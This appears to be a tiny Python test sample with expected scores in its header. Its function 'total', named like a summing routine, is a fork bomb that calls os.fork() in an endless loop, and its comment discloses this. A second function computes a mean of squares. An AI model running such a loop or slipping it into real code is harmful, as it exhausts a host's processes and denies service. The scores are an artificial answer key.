# Tries: forks for ever.
# Deserves: total=0 smooth=4 scale=4 ratio=4

# %% total
import os


def total(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass

# %% ratio
def ratio(numbers):
    return sum(n * n for n in numbers) / len(numbers)
